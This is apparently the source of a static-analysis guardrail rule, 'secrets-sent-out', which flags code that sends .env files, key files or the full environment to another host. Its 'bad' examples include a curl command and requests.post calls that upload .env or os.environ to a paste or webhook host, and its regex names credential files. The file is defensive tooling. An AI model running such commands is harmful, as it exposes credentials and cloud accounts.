"""The rule `secrets-sent-out`."""

from __future__ import annotations

from collections.abc import Iterator

from guardrail.context import Context
from guardrail.effects import NetworkUse
from guardrail.example import python, shell
from guardrail.model import Category, Finding, Level
from guardrail.patterns import late
from guardrail.rule import Rule
from guardrail_rules.circumstances import named, weighed

_SECRET = late(
    r"^(?:the environment|file (?:.*/)?"
    r"(?:\.env(?:\.(?!example|sample|te?mpl|dist\b|tests?\b|ci\b|default|schema)[\w-]+)?"
    r"|credentials(?:\.json)?|id_(?:rsa|ed25519|ecdsa)|\.npmrc|\.pypirc|\.netrc|\.pgpass"
    r"|\.git-credentials|kubeconfig|\.kube/config|\.docker/config\.json"
    r"|application_default_credentials\.json|[\w.-]+\.(?:pem|p12|pfx|key)))$"
)
_HERE = late(r"^(?:localhost|127\.0\.0\.1|\[?::1\]?|0\.0\.0\.0)$")


class SecretsSentOut(Rule):
    """Secrets are sent to another host: `.env`, a key file, every variable of the environment.

    ## Why it matters

    Whoever receives them, or reads the logs on the way, has the database and the cloud account.
    Each of them has to be replaced, and what was done with them meanwhile isn't known.

    ## Do this instead

    Send the one value that the receiver needs, or none: let it read its own secrets from the
    place that keeps them. To report a problem, send the names of the variables.
    """

    name = "secrets-sent-out"
    category = Category.EXPOSURE
    level = Level.ERROR
    judges = (NetworkUse,)

    bad = (
        python(
            """\
            import requests

            requests.post("https://paste.acme.io/new", data=open(".env").read())
            """
        ),
        python(
            """\
            import os
            import requests

            requests.post("https://hooks.acme.io/debug", json={"env": dict(os.environ)})
            """
        ),
        shell("curl -d @.env https://paste.acme.io/new"),
    )
    good = (
        python(
            """\
            import requests

            requests.post("https://paste.acme.io/new", data=open("report.txt").read())
            """
        ),
        python(
            """\
            import os
            import requests

            requests.post("https://api.acme.io/login", json={"user": os.environ["API_USER"]})
            """
        ),
    )

    def judge(self, use: NetworkUse, context: Context) -> Iterator[Finding]:
        """A body with a file of secrets, or all variables, in it."""
        secret = [one.removeprefix("file ") for one in use.sends if _SECRET.match(one)]
        if secret and not _HERE.match(use.host):
            where = named(use.host, "a host") if use.host else "another host"
            yield from weighed(self, use, context, f"{', '.join(secret)} is sent to {where}")
